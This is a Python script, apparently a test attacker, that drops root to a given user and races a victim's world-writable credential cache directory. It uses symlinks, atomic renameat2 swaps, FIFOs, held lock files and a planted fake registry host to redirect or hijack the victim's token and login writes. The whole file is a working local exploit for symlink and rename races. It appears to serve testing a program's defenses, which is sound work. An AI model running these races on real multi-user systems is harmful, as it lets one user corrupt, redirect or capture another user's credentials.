"""Another user of the machine, who attacks the directory that a victim's cache is in.

It runs as a program, as root: attacker.py <uid> <how> <directory> <documents> <milliseconds>. It
gives up its rights, and then changes names in the directory until its time is up.
"""

import ctypes
import errno
import fcntl
import os
import sys
import time
from contextlib import suppress

_FOLDERS = ("tokens", "logins", "locks", "registries", "elsewhere")
_CACHE = "cache"
# fcntl.h, linux/fs.h
_AT_FDCWD, _RENAME_EXCHANGE = -100, 2
_PAUSE = 0.0005
_PLANTED = "999999999999.dkr.ecr.us-east-1.amazonaws.com"


def exchange(one: str, other: str) -> None:
    """Exchange two names atomically, if that is permitted."""
    code = _libc.renameat2(_AT_FDCWD, one.encode(), _AT_FDCWD, other.encode(), _RENAME_EXCHANGE)
    if code and ctypes.get_errno() == errno.ENOSYS:
        raise OSError(errno.ENOSYS, "renameat2 is missing")


def make_cache(name: str, link_to: str = "") -> None:
    """Create a directory that everyone can write to, with folders or with links to documents."""
    with suppress(OSError):
        os.mkdir(name)
    for folder in _FOLDERS:
        with suppress(OSError):
            at = os.path.join(name, folder)
            if link_to:
                os.symlink(os.path.join(link_to, folder), at)
            else:
                os.mkdir(at)


def hold_locks() -> list[int]:
    """Plant and lock every lock file, and plant a host."""
    held = []
    with suppress(OSError):
        os.close(os.open(f"{_CACHE}/registries/{_PLANTED}", os.O_CREAT, 0o666))
    for name in ("logins", *(f"ecr@us-east-1~{at:03x}" for at in range(64))):
        with suppress(OSError):
            opened = os.open(f"{_CACHE}/locks/{name}", os.O_CREAT | os.O_RDWR, 0o666)
            held.append(opened)
            fcntl.flock(opened, fcntl.LOCK_EX | fcntl.LOCK_NB)
    return held


def attack(how: str, documents: str, end: float) -> None:
    """Attack in one way until the time `end`."""
    own = f"own-{os.getpid()}"
    link = f"link-{os.getpid()}"
    if how == "links":
        make_cache(_CACHE, documents)
    elif how == "folders":
        make_cache(_CACHE)
    elif how == "exchange":
        with suppress(OSError):
            os.symlink(documents, link)
        make_cache(own)
        with suppress(OSError):
            os.rename(own, _CACHE)
    elif how == "inner":
        make_cache(_CACHE)
        for folder in _FOLDERS:
            with suppress(OSError):
                os.symlink(f"{documents}/{folder}", f"{_CACHE}/{folder}-{os.getpid()}")
    elif how == "log":
        with suppress(OSError):
            os.symlink(f"{documents}/a.txt", "log")
        with suppress(OSError):
            os.mkfifo(link, 0o666)
    held = hold_locks() if how == "folders" else []
    while time.monotonic() < end:
        if how == "exchange":
            exchange(_CACHE, link)
        elif how == "log":
            exchange("log", link)
        elif how == "inner":
            for folder in _FOLDERS:
                exchange(f"{_CACHE}/{folder}", f"{_CACHE}/{folder}-{os.getpid()}")
        elif how == "rename":
            with suppress(OSError):
                os.rename(_CACHE, own)
                time.sleep(_PAUSE)
                os.rename(own, _CACHE)
        time.sleep(_PAUSE)
    for opened in held:
        os.close(opened)


if __name__ == "__main__":
    uid, how, directory, documents, milliseconds = sys.argv[1:]
    _libc = ctypes.CDLL(None, use_errno=True)
    os.chdir(directory)
    os.setgroups([])
    os.setgid(int(uid))
    os.setuid(int(uid))
    os.umask(0)
    attack(how, documents, time.monotonic() + int(milliseconds) / 1000)
